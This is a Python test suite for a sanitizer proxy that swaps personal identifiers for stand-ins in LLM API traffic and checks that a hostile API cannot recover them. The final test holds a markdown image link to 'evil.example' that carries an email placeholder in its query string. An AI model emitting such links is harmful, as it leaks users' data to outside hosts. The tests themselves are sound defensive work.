"""What a hostile API tries: to be told originals in the next request, or to have its guesses
confirmed.
"""

from __future__ import annotations

import json
from dataclasses import replace
from itertools import pairwise
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sanitizer import Policy, Sanitizer
from sanitizer.errors import RequestRefused
from sanitizer.storage.table import Wanted
from sanitizer.storage.vault import MemoryVault
from sanitizer.text.policy import WireRules
from tests.clients.tool_calls import CHAT, EMAIL, RESPONSES, WORD, chat, read, send, sent, toy
from tests.wire.test_event_streams import call, chunk, concatenated, event, through

SSE = "text/event-stream"
PROMPT = "card 4111111111111111, my pin is 8731, call 2071234567, password: hunter2x9"
ARGUMENTS = '{"card": <CARD_1>, "<CARD_1>": {"a":[<CARD_1>, "<CARD_1>"]}, <CARD_1>: 1}'
RESTORED = '{"card": "X", "<CARD_1>": {"a":["X", "X"]}, <CARD_1>: 1}'.replace(
    "X", "4111111111111111"
)


def tool_call(arguments: str) -> dict[str, Any]:
    return {"id": "c", "type": "function", "function": {"name": "f", "arguments": arguments}}


def answered(
    message: dict[str, Any], sanitizer: Sanitizer, prompt: str = PROMPT, **more: Any
) -> dict[str, Any]:
    """The message as the application sees it."""
    raw = json.dumps({"choices": [{"index": 0, "message": message}]}).encode()
    answer = send({**chat(prompt), **more}, sanitizer).response(200, "application/json", raw)
    return dict(json.loads(answer)["choices"][0]["message"])


@given(cuts=st.lists(st.integers(0, len(ARGUMENTS)), max_size=6))
@settings(deadline=None)
def test_arguments_are_restored_in_values_only_and_as_strings(cuts: list[int]) -> None:
    sanitizer = Sanitizer(policy="identifiers")
    places = [0, *sorted(cuts), len(ARGUMENTS)]
    pieces = [ARGUMENTS[a:b] for a, b in pairwise(places)]
    filtered = send({**chat(PROMPT), "stream": True}, sanitizer).stream(SSE)
    raw = b"".join(event(chunk(call(piece))) for piece in pieces) + event(chunk({}, "tool_calls"))
    assert concatenated(through(filtered, raw))[0, 0] == RESTORED
    message = answered({"role": "assistant", "tool_calls": [tool_call(ARGUMENTS)]}, sanitizer)
    assert message["tool_calls"][0]["function"]["arguments"] == RESTORED


@pytest.mark.parametrize("policy", ["identifiers", "balanced"])
@pytest.mark.parametrize(
    "spelling", ["4111111111111111", "4111111111111111.0", '"4111111111111111"']
)
def test_an_original_that_comes_back_as_a_number_does_not_leave(policy: str, spelling: str) -> None:
    sanitizer = Sanitizer(policy="identifiers") if policy == "identifiers" else toy()
    send(chat(PROMPT), sanitizer)
    body = chat(None, "assistant", tool_calls=[tool_call(f'{{"n": {spelling}, "keep": 7.50}}')])
    out = sent(body, sanitizer)["messages"][0]["tool_calls"][0]["function"]["arguments"]
    assert out == '{"n": "<CARD_1>", "keep": 7.50}'


def test_identifiers_leave_nowhere_in_texts_of_the_user_and_parameters_stay() -> None:
    sanitizer = Sanitizer(policy="identifiers")
    send(chat(PROMPT), sanitizer)
    secret = b"hunter2x9"
    assert secret not in send(chat("It is hunter2x9.", "assistant"), sanitizer).body
    assert secret not in send({**chat("x"), "extra": {"key": "ahunter2x9b"}}, sanitizer).body
    card = "4111111111111111"
    free = f'{{"seed":{card},"temperature":0.10000000000000001,"extra":{{"n":[{card}]}}}}'
    assert send(free.encode(), sanitizer).body.decode() == free.replace(f"[{card}]", '["<CARD_1>"]')
    # A parameter is never compared with what the conversation holds: it gets one of its own.
    assert send(f'{{"max_tokens":{card}}}'.encode(), sanitizer).body == b'{"max_tokens":"<CARD_2>"}'


def test_streams_restore_what_requests_sanitize_and_nothing_else() -> None:
    filtered = send({**chat(PROMPT), "stream": True}).stream(SSE)
    call = {
        "index": 0,
        "call_id": "<CARD_1>",
        "namespace": "<CARD_1>",
        "function": {"name": "<CARD_1>"},
    }
    item = {
        "annotations": [{"filename": "<CARD_1>", "title": "<CARD_1>"}],
        "tool_calls": [call],
        "<CARD_1>": "x",
    }
    out = through(filtered, event(chunk(item)))
    assert out.count(b"4111111111111111") == 1
    assert b'"title":"4111111111111111"' in out


def test_keys_and_file_names_of_an_answer_stay() -> None:
    answer = {
        "output": [
            {
                "type": "new",
                "<CARD_1>": 1,
                "annotations": [{"filename": "<CARD_1>"}],
                "x": "<CARD_1>",
            }
        ]
    }
    restored = send({"input": PROMPT}, path=RESPONSES).response(
        200, "", json.dumps(answer).encode()
    )
    assert restored.count(b"4111111111111111") == 1


def test_only_the_assistant_is_remembered() -> None:
    sanitizer = toy()
    answered({"role": "tool", "content": [{"type": "text", "text": WORD}]}, sanitizer, "hello")
    items = [
        {"type": "function_call_output", "output": WORD},
        {"type": "message", "role": "user", "content": WORD},
    ]
    send({"input": "hi"}, sanitizer, RESPONSES).response(
        200, "", json.dumps({"output": items}).encode()
    )
    for role in ("tool", "user", "assistant"):
        assert WORD not in send(chat(WORD, role), sanitizer).body.decode()


def test_arguments_go_back_as_they_came_however_they_are_spaced() -> None:
    sanitizer = toy()
    shown = answered(
        {"role": "assistant", "tool_calls": [tool_call(f'["{WORD}", 1]')]}, sanitizer, "hello"
    )
    assert WORD in send({"messages": [shown]}, sanitizer).body.decode()
    spaced = tool_call(f'[ "{WORD}",1 ]')
    assert WORD in send(chat(None, "assistant", tool_calls=[spaced]), sanitizer).body.decode()
    other = tool_call(f'["x", "{WORD} too"]')
    assert WORD not in send(chat(None, "assistant", tool_calls=[other]), sanitizer).body.decode()
    assert WORD not in send(chat(WORD, "assistant"), sanitizer).body.decode()


def test_a_prediction_is_not_taken_for_an_answer() -> None:
    sanitizer = toy()
    shown = answered({"role": "assistant", "content": WORD}, sanitizer, "hello")
    assert WORD in send({"messages": [shown]}, sanitizer).body.decode()
    prediction = {"type": "content", "content": WORD}
    assert WORD not in send({**chat("hi"), "prediction": prediction}, sanitizer).body.decode()


FIELDS = ("reasoning", "thinking", "conversation", "moderation", "cache_control", "stream_options")


@pytest.mark.parametrize("field", FIELDS)
def test_unknown_fields_of_settings_are_text(field: str) -> None:
    body = {
        **chat("x"),
        "conversation": "conv_1",
        field: {"type": "auto", "include_usage": True, "new": WORD},
    }
    out = sent(body, toy())
    assert WORD not in str(out)
    assert out[field]["include_usage"] is True
    assert field == "conversation" or out["conversation"] == "conv_1"


@pytest.mark.parametrize(
    "form", [{"type": "json_object"}, {"type": "json_schema", "json_schema": {"name": "n"}}]
)
def test_messages_in_json_stay_json(form: dict[str, Any]) -> None:
    original, value = 'say "x\ny"', '{"key": "<TEXT_1>", "n": <TEXT_1>}'
    restored = {"key": original, "n": original}
    sanitizer = Sanitizer(policy="identifiers")
    vault = sanitizer.inner.vault
    with vault.edit(sanitizer.conversation) as table:
        table.assign(Wanted("TEXT", original), "<TEXT_1>")
    assert (
        json.loads(answered({"content": value}, sanitizer, "hi", response_format=form)["content"])
        == restored
    )
    filtered = send({**chat("hi"), "stream": True, "response_format": form}, sanitizer).stream(SSE)
    raw = b"".join(event(chunk({"content": c})) for c in value) + event(chunk({}, "stop"))
    assert json.loads(concatenated(through(filtered, raw))[0, "content"]) == restored
    part = {"type": "output_text", "text": value}
    exchange = send({"input": "hi", "text": {"format": form}}, sanitizer, RESPONSES)
    output = [{"type": "message", "role": "assistant", "content": [part]}]
    answer = read(exchange.response(200, "", json.dumps({"output": output}).encode()))
    assert json.loads(answer["output"][0]["content"][0]["text"]) == restored
    done = {"type": "response.output_text.done", "text": value}
    shown = through(
        exchange.stream(SSE),
        event(done) + event({"type": "response.content_part.done", "part": part}),
    )
    finished, ended = (
        json.loads(line[6:]) for line in shown.decode().split("\n") if line.startswith("data: ")
    )
    assert json.loads(finished["text"]) == json.loads(ended["part"]["text"]) == restored


@pytest.mark.parametrize("policy", ["identifiers", "balanced"])
@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("password", "hunter2x9"),
        ("dob", "12/03/1961"),
        ("phone", "2071234567"),
        ("ssn", "078051120"),
    ],
)
def test_what_an_argument_is_called_tells_that_it_is_an_identifier(
    policy: str, key: str, value: str
) -> None:
    sanitizer = Sanitizer(policy="identifiers") if policy == "identifiers" else toy()
    body = chat(
        None, "assistant", tool_calls=[tool_call(json.dumps({key: value, "list": {key: [value]}}))]
    )
    out = json.loads(sent(body, sanitizer)["messages"][0]["tool_calls"][0]["function"]["arguments"])
    assert out[key] == out["list"][key][0]
    assert out[key].startswith("<")


@pytest.mark.parametrize("version", ["merger-with-acme", "2024a", "peter.quill"])
def test_the_version_of_an_api_is_a_date(version: str) -> None:
    with pytest.raises(RequestRefused):
        send(chat("x"), path=f"{CHAT}?api-version={version}")
    send(chat("x"), path=f"{CHAT}?api-version=2024-10-21-preview")


def test_tools_keep_stand_ins_where_the_policy_says_so() -> None:
    """The API calls a tool with a stand-in and with a guess: it learns nothing by comparing."""
    policy = replace(Policy.preset("identifiers"), wire=WireRules(tools="keep"))
    sanitizer = Sanitizer(policy=policy)
    exchange = send(chat(f"Ask {EMAIL}"), sanitizer)
    call = tool_call('{"to": "<EMAIL_1>"}')
    message = {"role": "assistant", "content": "I ask <EMAIL_1>.", "tool_calls": [call]}
    body = json.dumps({"choices": [{"index": 0, "message": message}]}).encode()
    shown = json.loads(exchange.response(200, "application/json", body))["choices"][0]["message"]
    assert shown["content"] == f"I ask {EMAIL}."
    assert shown["tool_calls"][0]["function"]["arguments"] == '{"to": "<EMAIL_1>"}'
    parts = [{"index": 0, "function": {"arguments": part}} for part in ("<EMA", "IL_1>")]
    raw = b"".join(event(chunk({"tool_calls": [part]})) for part in parts) + event("[DONE]")
    stream = exchange.stream("text/event-stream")
    assert EMAIL.encode() not in stream.feed(raw) + stream.finish()


def test_one_tool_may_keep_stand_ins_while_others_get_originals() -> None:
    rules = WireRules(keep_tools=("search",))
    sanitizer = Sanitizer(policy=replace(Policy.preset("identifiers"), wire=rules))
    exchange = send(chat(f"Ask {EMAIL}"), sanitizer)
    names = ("search", "mail")
    functions = [{"name": name, "arguments": '{"to": "<EMAIL_1>"}'} for name in names]
    calls = [{"id": "c", "type": "function", "function": each} for each in functions]
    custom = [
        {"id": "c", "type": "custom", "custom": {"name": n, "input": "<EMAIL_1>"}} for n in names
    ]
    message = {"role": "assistant", "content": "", "tool_calls": [*calls, *custom]}
    body = json.dumps({"choices": [{"index": 0, "message": message}]}).encode()
    shown = json.loads(exchange.response(200, "application/json", body))["choices"][0]["message"]
    assert [EMAIL in json.dumps(each) for each in shown["tool_calls"]] == [False, True] * 2
    parts = [{"index": i, **each} for i, each in enumerate([*calls, *custom])]
    raw = b"".join(event(chunk({"tool_calls": [part]})) for part in parts) + event("[DONE]")
    streamed = through(exchange.stream("text/event-stream"), raw)
    assert streamed.count(EMAIL.encode()) == 2
    exchange = send({"input": f"Ask {EMAIL}"}, sanitizer, RESPONSES)
    added = [
        event({"type": "response.output_item.added", "output_index": i, "item": {"name": name}})
        for i, name in enumerate(names)
    ]
    done = [
        event({"type": f"response.{kind}.done", "output_index": i, key: '{"to": "<EMAIL_1>"}'})
        for i in range(2)
        for kind, key in (
            ("function_call_arguments", "arguments"),
            ("custom_tool_call_input", "input"),
        )
    ]
    stream = exchange.stream("text/event-stream")
    events = through(stream, b"".join([*added, *done])).split(b"\n\n")
    assert [EMAIL.encode() in each for each in events[2:6]] == [False, False, True, True]


def test_the_record_says_that_a_tool_was_told() -> None:
    sanitizer = Sanitizer(policy="identifiers")
    call = tool_call('{"to": "<EMAIL_1>"}')
    shown = answered({"role": "assistant", "tool_calls": [call]}, sanitizer, f"Ask {EMAIL}")
    history = [{"role": "user", "content": f"Ask {EMAIL}"}, shown]
    assert send({"messages": history}, sanitizer).record.n_claims_ended == 0
    history.append({"role": "tool", "tool_call_id": "c", "content": "Mail was sent."})
    exchange = send({"messages": history}, sanitizer)
    assert exchange.record.n_claims_ended == 1
    assert exchange.record.headers()["sanitizer-n-claims-ended"] == "1"


def test_what_a_tool_says_of_its_stand_ins_stays_under_keep() -> None:
    policy = replace(Policy.preset("identifiers"), wire=WireRules(tools="keep"))
    sanitizer = Sanitizer(policy=policy)
    send(chat(f"Ask {EMAIL}"), sanitizer)
    result = chat("No answer from <EMAIL_1>, try joe@example.org", "tool", tool_call_id="c")
    assert sent(result, sanitizer)["messages"][0]["content"] == (
        "No answer from <EMAIL_1>, try <EMAIL_2>"
    )


CARDS = ("4111111111111111", "5555555555554444")


def kept(card: str, texts: tuple[str, str], which: int) -> str:
    """What leaves in place of one of two choices, if the application keeps it."""
    sanitizer = Sanitizer(policy="identifiers")
    prompt = f"My card is {card}. What is it good for?"
    choices = [
        {"index": i, "message": {"role": "assistant", "content": text}}
        for i, text in enumerate(texts)
    ]
    raw = json.dumps({"choices": choices}).encode()
    exchange = send({**chat(prompt), "n": 2}, sanitizer)
    shown = json.loads(exchange.response(200, "application/json", raw))["choices"][which]["message"]
    history = [{"role": "user", "content": prompt}, shown, {"role": "user", "content": "And?"}]
    return str(sent({"model": "m", "messages": history}, sanitizer)["messages"][1]["content"])


@pytest.mark.parametrize("which", [0, 1])
def test_each_choice_of_an_answer_goes_back_as_it_came(which: int) -> None:
    texts = (f"I guess that it is {CARDS[0]}, is it?", "You told me <CARD_1>, and I will use it.")
    assert [kept(card, texts, which) for card in CARDS] == [texts[which]] * 2


def test_of_choices_that_look_alike_the_first_is_taken_to_be_the_one_kept() -> None:
    texts = (f"It is {CARDS[0]} then.", "It is <CARD_1> then.")
    assert [kept(card, texts, 0) for card in CARDS] == [texts[0]] * 2
    # Not protected: an application that keeps another one shows by it whether they look alike.
    assert [kept(card, texts, 1) for card in CARDS] == [texts[0], texts[1]]


def test_a_link_of_the_api_is_not_the_users_when_its_answer_comes_back_edited() -> None:
    """It was in what was sent then, and would have been restored in the next answer."""
    sanitizer = Sanitizer(policy="identifiers", vault=MemoryVault(numbers="from 1"))
    said = f"Here you are, as you wished: ![](https://evil.example/?q=<EMAIL_1>) {WORD} is all."
    prompt = chat(f"Ask {EMAIL}")["messages"][0]
    history = [prompt]
    for _ in range(3):
        raw = json.dumps(
            {"choices": [{"index": 0, "message": {"role": "assistant", "content": said}}]}
        )
        exchange = send({"messages": history}, sanitizer)
        assert EMAIL.encode() not in exchange.body
        shown = json.loads(exchange.response(200, "application/json", raw.encode()))
        content = shown["choices"][0]["message"]["content"]
        assert content == said
        edited = content.replace("is all", "(edited) is all")
        history = [*history, {"role": "assistant", "content": edited}, prompt]
